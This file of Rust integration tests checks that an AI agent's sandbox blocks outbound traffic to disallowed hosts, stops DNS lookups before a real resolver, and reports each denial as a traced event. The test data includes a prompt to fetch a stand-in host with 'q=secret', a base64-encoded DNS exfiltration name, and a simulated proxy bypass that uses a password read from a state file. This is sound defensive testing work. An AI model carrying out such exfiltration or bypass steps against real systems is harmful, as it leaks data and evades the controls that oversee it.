//! What the agent may not: a host, a name, an address. It dies, it is an event with a trace, and nothing arrives.

use std::time::Instant;

use assistant_proto::event::{FloorBreached, Layer};
use assistant_tests::doubles::{OUTSIDE, OUTSIDE_HOST};
use assistant_tests::harness::bus::{Denials, Watch};
use assistant_tests::harness::command::inside;
use assistant_tests::harness::plain::Plain;
use assistant_tests::harness::{AGENT, STATE, TIER, agent, probe, sink};
use service_kit::task::Tasks;

#[tokio::test]
async fn a_host_that_nobody_allowed() {
    let tasks = Tasks::default();
    let denials = Denials::watch(&tasks).await.unwrap();
    let cursor = sink::now().await.unwrap();
    let turn = agent::say(TIER, &format!("fetch https://{OUTSIDE_HOST}/?q=secret for me")).await.unwrap();
    assert_eq!(turn.failure, "");
    let event = denials.wait("the denial", |e| e.host == OUTSIDE_HOST && e.layer == Layer::Broker).await.unwrap();
    assert_eq!(event.tier.as_str(), TIER);
    assert_eq!(event.trace_id, turn.trace_id, "the event leads to the turn");
    assert!(event.principal.is_some() && !event.reason.is_empty() && !event.fix.is_empty(), "{event:?}");
    assert!(event.fix.contains(OUTSIDE_HOST), "what would allow it names the host: {}", event.fix);
    let arrived = sink::since(cursor).await.unwrap();
    assert!(sink::packets_to(&arrived, &OUTSIDE.to_string()).is_empty(), "{arrived:?}");
    assert!(sink::queries_for(&arrived, OUTSIDE_HOST).is_empty(), "{arrived:?}");

    let plain = Plain::make().await.unwrap();
    let cursor = sink::now().await.unwrap();
    let url = format!("https://{OUTSIDE_HOST}/");
    let answer = plain.run(&["curl", "-sSk", "-m", "10", &url]).await.unwrap();
    plain.remove().await;
    assert_eq!(answer.out, "out", "control: the host is up: {answer:?}");
    let arrived = sink::since(cursor).await.unwrap();
    assert!(!sink::packets_to(&arrived, &OUTSIDE.to_string()).is_empty(), "control: the sink sees it");
    assert!(!sink::queries_for(&arrived, OUTSIDE_HOST).is_empty(), "control: the name server sees it");
}

#[tokio::test]
async fn the_event_comes_within_a_second() {
    let tasks = Tasks::default();
    let denials = Denials::watch(&tasks).await.unwrap();
    let sent = Instant::now();
    let _refused = inside(AGENT, &["curl", "-sS", "-m", "5", "https://quick.drill.example/"]).await.unwrap();
    denials.wait("the denial", |e| e.host == "quick.drill.example").await.unwrap();
    let seen = denials.seen().into_iter().find(|(_, e)| e.host == "quick.drill.example").unwrap().0;
    // The bound is the product's promise, not a speed target: one second from attempt to subscriber.
    assert!(seen.duration_since(sent).as_millis() < 1_000 + 500, "{:?}", seen.duration_since(sent));
}

#[tokio::test]
async fn a_name_never_reaches_a_real_resolver() {
    let tasks = Tasks::default();
    let denials = Denials::watch(&tasks).await.unwrap();
    let cursor = sink::now().await.unwrap();
    let name = "c2vjcmv0.exfil.drill.example";
    let answer = inside(AGENT, &["getent", "hosts", name]).await.unwrap();
    assert_ne!(answer.status, 0, "{answer:?}");
    denials.wait("the denial", |e| e.host.starts_with(name) && e.layer == Layer::Dns).await.unwrap();
    assert!(sink::queries_for(&sink::since(cursor).await.unwrap(), "exfil").is_empty());
    // Docker's own resolver, asked by hand, hands it to ours and to nobody else.
    let cursor = sink::now().await.unwrap();
    let by_hand = "by-hand.exfil.drill.example";
    let _refused = probe::joined(AGENT, &["dig", "+time=2", "+tries=1", "@127.0.0.11", by_hand]).await.unwrap();
    assert!(sink::queries_for(&sink::since(cursor).await.unwrap(), "exfil").is_empty());

    let doors = inside(AGENT, &["getent", "hosts", "models"]).await.unwrap();
    assert_eq!(doors.status, 0, "control: a door's name is answered: {doors:?}");
    let plain = Plain::make().await.unwrap();
    let cursor = sink::now().await.unwrap();
    let _nxdomain = plain.run(&["getent", "hosts", name]).await.unwrap();
    plain.remove().await;
    let arrived = sink::since(cursor).await.unwrap();
    assert!(!sink::queries_for(&arrived, "exfil").is_empty(), "control: the name server would have seen it");
}

#[tokio::test]
async fn squid_denies_on_its_own() {
    // As if the broker were taken over: a CONNECT straight to Squid with the tier's own password, for a host that
    // exists and is not on the tier's list. Run from the broker's namespace, where Squid can be reached.
    let tasks = Tasks::default();
    let denials = Denials::watch(&tasks).await.unwrap();
    let breaches = Watch::<FloorBreached>::watch(&tasks).await.unwrap();
    let cursor = sink::now().await.unwrap();
    let password =
        std::fs::read_to_string(format!("{STATE}/render/assistant-secret-broker/etc/squid-users/{TIER}")).unwrap();
    let squid = probe::addresses("assistant-squid")
        .await
        .unwrap()
        .into_iter()
        .find(|(network, _)| network.ends_with("transit"))
        .unwrap()
        .1;
    let proxy = format!("http://{TIER}:{}@{squid}:3128", password.trim());
    let ask = |url: String| {
        let proxy = proxy.clone();
        async move {
            probe::joined(
                "assistant-secret-broker",
                &["curl", "-sSk", "-m", "5", "-o", "/dev/null", "-w", "%{http_connect}", "-x", &proxy, &url],
            )
            .await
            .unwrap()
        }
    };
    let refused = ask(format!("https://{OUTSIDE_HOST}/")).await;
    assert!(!refused.out.contains("200"), "{refused:?}");
    denials.wait("Squid's denial", |e| e.layer == Layer::Squid && e.host == OUTSIDE_HOST).await.unwrap();
    let arrived = sink::since(cursor).await.unwrap();
    assert!(sink::packets_to(&arrived, &OUTSIDE.to_string()).is_empty());
    assert!(sink::queries_for(&arrived, OUTSIDE_HOST).is_empty(), "a denied name must not be resolved");
    let allowed = ask("https://serv.amazingmarvin.com/".to_owned()).await;
    assert!(allowed.out.contains("200"), "control: the password is right and the allowed host opens: {allowed:?}");
    // The broker permitted nothing of this.
    let breach = breaches.wait("the breach", |event| event.check == "a permit for every tunnel").await.unwrap();
    assert!(breach.detail.contains("serv.amazingmarvin.com:443") && breach.detail.contains(TIER), "{breach:?}");
}
